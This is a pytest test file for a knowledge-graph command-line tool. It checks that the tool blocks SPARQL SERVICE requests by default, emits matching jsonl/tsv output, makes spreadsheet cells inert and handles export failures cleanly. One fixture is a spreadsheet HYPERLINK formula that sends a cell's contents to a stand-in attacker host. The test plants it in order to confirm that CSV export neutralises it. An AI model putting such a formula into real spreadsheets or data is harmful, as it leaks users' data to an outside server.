"""CLI habits: SERVICE off by default, jsonl/tsv, safe CSV cells, exports, missing stores, duplicates, -v."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner, Result

from kg.cli import cli
from kg.store import open_store
from tests.fixtures_rdf import build_fixture_extraction, build_second_extraction

FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Kestrel")'


def _ok(result: Result) -> str:
    assert result.exit_code == 0, result.stderr
    return result.stdout


def _clean_error(result: Result, code: int = 1) -> None:
    assert result.exit_code == code, (result.stdout, result.stderr)
    assert result.stderr.startswith("Error:") and "Traceback" not in result.stderr + result.stdout


@pytest.fixture()
def store(tmp_path: Path) -> Path:
    """A store of the two invented fixture articles; one actor's name is a spreadsheet formula."""
    extraction = build_fixture_extraction()
    actors = tuple(dataclasses.replace(a, name=FORMULA) if a.id == "kestrel-dynamics" else a for a in extraction.actors)
    path = tmp_path / "store"
    with open_store(path) as opened:
        opened.add_extraction(dataclasses.replace(extraction, actors=actors))
        opened.add_extraction(build_second_extraction())
    return path


class _Listener:
    """A local TCP server that counts connections and answers with an HTML page."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = int(self.sock.getsockname()[1])
        self.requests: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                self.requests.append(conn.recv(65536))
                body = b"<html><body>" + b"remote secret " * 200 + b"</body></html>"
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n"
                             b"Connection: close\r\n\r\n%s" % (len(body), body))


@pytest.fixture()
def listener() -> Iterator[_Listener]:
    server = _Listener()
    yield server
    server.sock.close()


def test_cli_sparql_service_makes_no_request_without_allow_service(runner: CliRunner, store: Path, listener: _Listener) -> None:
    query = f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{listener.port}/sparql> {{ ?s ?p ?o }} }}"
    refused = runner.invoke(cli, ["--store", str(store), "sparql", query])
    _clean_error(refused)
    assert "--allow-service" in refused.stderr
    assert listener.requests == []
    # The listener does answer: with the flag, the request is made, and its
    # HTML answer is one short error line, not echoed at length.
    allowed = runner.invoke(cli, ["--store", str(store), "sparql", "--allow-service", query])
    _clean_error(allowed)
    assert len(listener.requests) == 1 and listener.requests[0].startswith((b"GET", b"POST"))
    assert len(allowed.stderr) < 500 and allowed.stderr.count("remote secret") <= 2


def test_cli_sparql_word_service_in_a_literal_is_fine(runner: CliRunner, store: Path) -> None:
    out = _ok(runner.invoke(cli, ["--store", str(store), "sparql", "ASK { ?s ?p ?o FILTER(STR(?o) != 'SERVICE') }"]))
    assert out == "yes\n"


def test_cli_endpoint_answering_html_is_one_error_line(runner: CliRunner, listener: _Listener) -> None:
    result = runner.invoke(cli, ["--endpoint", f"http://127.0.0.1:{listener.port}/query", "stats"])
    _clean_error(result)
    assert len(result.stderr.strip().splitlines()) == 1 and listener.requests


@pytest.mark.parametrize("command", [["timeline"], ["actors"], ["relations", "Valdoria"], ["relations", "Valdoria", "--statements"],
                                     ["stats"]], ids=lambda c: "-".join(c))
def test_cli_jsonl_and_tsv_match_json(runner: CliRunner, store: Path, command: list[str]) -> None:
    as_json = json.loads(_ok(runner.invoke(cli, ["--store", str(store), *command, "--format", "json"])))
    records = as_json if isinstance(as_json, list) else [as_json]
    lines = _ok(runner.invoke(cli, ["--store", str(store), *command, "--format", "jsonl"])).splitlines()
    assert [json.loads(line) for line in lines] == records and records
    tsv = list(csv.reader(io.StringIO(_ok(runner.invoke(cli, ["--store", str(store), *command, "--format", "tsv"]))), delimiter="\t"))
    assert len(tsv) == len(records) + 1


def test_cli_sparql_tsv_and_jsonl(runner: CliRunner, store: Path) -> None:
    query = "PREFIX skos: <http://www.w3.org/2004/02/skos/core#> SELECT ?a ?n WHERE { ?a skos:prefLabel ?n } ORDER BY ?n LIMIT 2"
    tsv = _ok(runner.invoke(cli, ["--store", str(store), "sparql", query, "--format", "tsv"])).splitlines()
    assert tsv[0] == "?a\t?n" and tsv[1].startswith("<https://w3id.org/kg-events/id/actor/") and '\t"' in tsv[1]
    rows = [json.loads(line) for line in _ok(runner.invoke(cli, ["--store", str(store), "sparql", query, "--format", "jsonl"])).splitlines()]
    assert len(rows) == 2 and rows[0]["a"]["type"] == "uri" and rows[0]["n"]["type"] == "literal"


def test_cli_csv_cells_cannot_run_as_formulas(runner: CliRunner, store: Path, tmp_path: Path) -> None:
    outputs = [
        _ok(runner.invoke(cli, ["--store", str(store), "actors", "--format", "csv"])),
        _ok(runner.invoke(cli, ["--store", str(store), "timeline", "--format", "csv"])),
    ]
    _ok(runner.invoke(cli, ["--store", str(store), "export", "csv", str(tmp_path / "events.csv")]))
    outputs.append((tmp_path / "events.csv").read_text(encoding="utf-8"))
    for text in outputs:
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + FORMULA in cells  # the name is there, made inert
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]


def test_cli_export_into_a_missing_folder_is_an_error(runner: CliRunner, store: Path, tmp_path: Path) -> None:
    result = runner.invoke(cli, ["--store", str(store), "export", "turtle", str(tmp_path / "nope" / "g.ttl")])
    _clean_error(result)
    assert "does not exist" in result.stderr and not (tmp_path / "nope").exists()
    _ok(runner.invoke(cli, ["--store", str(store), "export", "turtle", str(tmp_path / "g.ttl")]))
    assert (tmp_path / "g.ttl").stat().st_size > 0


def test_cli_failed_export_leaves_the_old_file(runner: CliRunner, store: Path, tmp_path: Path) -> None:
    out = tmp_path / "g.gexf"
    _ok(runner.invoke(cli, ["--store", str(store), "export", "gexf", str(out)]))
    before = out.read_bytes()
    # A store written by something else may hold a name XML cannot carry.
    db = ox.Store(str(store))
    bad = ox.Quad(ox.NamedNode("https://w3id.org/kg-events/id/actor/ostmark"), ox.NamedNode("http://www.w3.org/2004/02/skos/core#prefLabel"),
                  ox.Literal("Ost\x01mark"), ox.NamedNode("https://w3id.org/kg-events/id/graph/actors"))
    db.remove(next(q for q in db.quads_for_pattern(bad.subject, bad.predicate, None, bad.graph_name)))
    db.add(bad)
    db.flush()
    del db
    result = runner.invoke(cli, ["--store", str(store), "export", "gexf", str(out)])
    _clean_error(result)
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_cli_read_commands_refuse_a_missing_store(runner: CliRunner, tmp_path: Path) -> None:
    for command in (["timeline"], ["stats"], ["actors"], ["validate"], ["sparql", "ASK {}"], ["export", "nquads", str(tmp_path / "x.nq")]):
        result = runner.invoke(cli, ["--store", str(tmp_path / "typo"), *command])
        _clean_error(result, 2 if command == ["validate"] else 1)
        assert "no kg store" in result.stderr
    assert not (tmp_path / "typo").exists()


def test_cli_unknown_actor_hint_names_a_real_command(runner: CliRunner, store: Path) -> None:
    result = runner.invoke(cli, ["--store", str(store), "timeline", "--actor", "Zzyzx Qwv"])
    _clean_error(result)
    assert "kg actors" in result.stderr
    assert "actors" in _ok(runner.invoke(cli, ["--help"])).split()
